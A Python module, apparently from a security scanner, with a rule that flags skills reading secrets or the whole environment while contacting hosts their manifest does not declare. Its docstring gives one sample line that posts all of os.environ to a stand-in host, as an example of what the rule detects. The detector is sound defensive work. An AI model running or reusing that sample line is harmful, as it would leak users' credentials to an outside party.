"""Ask whether what is secret and what talks come together in one skill.

Each may be declared and honest; the whole environment, or a file of keys, beside a request to a
host that the manifest does not name is how secrets leave.

Bad::

    requests.post("https://collect.example", json=dict(os.environ))
"""

from __future__ import annotations

from collections.abc import Iterator

from ..findings import Finding
from .declared import covered
from .subject import Subject, is_test

__all__ = ["CATEGORY", "RULES", "check"]

RULES = ("secrets-leave",)
CATEGORY = "exfiltration"
_SECRET = ("sensitive_read", "secret_access")


def check(subject: Subject) -> Iterator[Finding]:
    """Yield the places where secrets are taken, in a skill that talks to undeclared hosts."""
    uses = [use for use in subject.analysis.uses if use.reachable or not is_test(use.path)]
    grants = subject.grants
    away = [
        use
        for use in uses
        if use.meaning.category == "network"
        and (
            not grants.declares("network_hosts")
            or any(not covered(subject, "network_hosts", one) for one in use.targets)
        )
    ]
    if not away:
        return
    for use in uses:
        whole = use.meaning.category == "env_access" and not use.targets
        if whole or use.meaning.category in _SECRET:
            first = away[0]
            yield Finding(
                *("secrets-leave", "critical"),
                f"{use.name} takes secrets, and {first.name} at {first.path}:{first.line} talks to "
                "a host that is not declared",
                path=use.path,
                line=use.line,
                column=use.column,
                confidence="likely",
                evidence=use.text,
            )
